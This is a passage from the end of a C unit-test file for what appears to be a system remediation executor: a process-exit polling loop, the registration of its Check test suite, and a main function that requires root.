		fd = open(stat, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			gone = 1;
			break;
		}
		n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		buf[n > 0 ? n : 0] = '\0';
		if (strstr(buf, ") Z ") || strstr(buf, ") X "))
			gone = 1;
		else
			usleep(10000);
	}
	ck_assert(gone);
}
END_TEST

static Suite *suite(void)
{
	Suite *s = suite_create("arr_exec");
	TCase *tc = tcase_create("core");

	tcase_set_timeout(tc, 60);
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, test_file_actions);
	tcase_add_test(tc, test_file_delete_search);
	tcase_add_test(tc, test_critical_through_symlink);
	tcase_add_test(tc, test_proc_modify_terminate);
	tcase_add_test(tc, test_proc_module_threads);
	tcase_add_test(tc, test_proc_create_and_scripts);
	tcase_add_test(tc, test_repair_mbr);
	tcase_add_test(tc, test_task_cron);
	tcase_add_test(tc, test_task_timer);
	tcase_add_test(tc, test_device_and_mutex);
	tcase_add_test(tc, test_network);
	tcase_add_test(tc, test_quickscan);
	tcase_add_test(tc, test_cleanup_rule_verbatim);
	tcase_add_test(tc, test_run_json);
	tcase_add_test(tc, test_refuses_templates);
	tcase_add_test(tc, test_inbox);
	tcase_add_test(tc, test_dispose);
	tcase_add_test(tc, test_proc_by_executable);
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	SRunner *sr;
	int failed;

	if (geteuid() != 0) {
		fprintf(stderr, "check_arr_exec: needs root (chown, immutable flags): skipped\n");
		return 77;
	}
	sr = srunner_create(suite());
	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
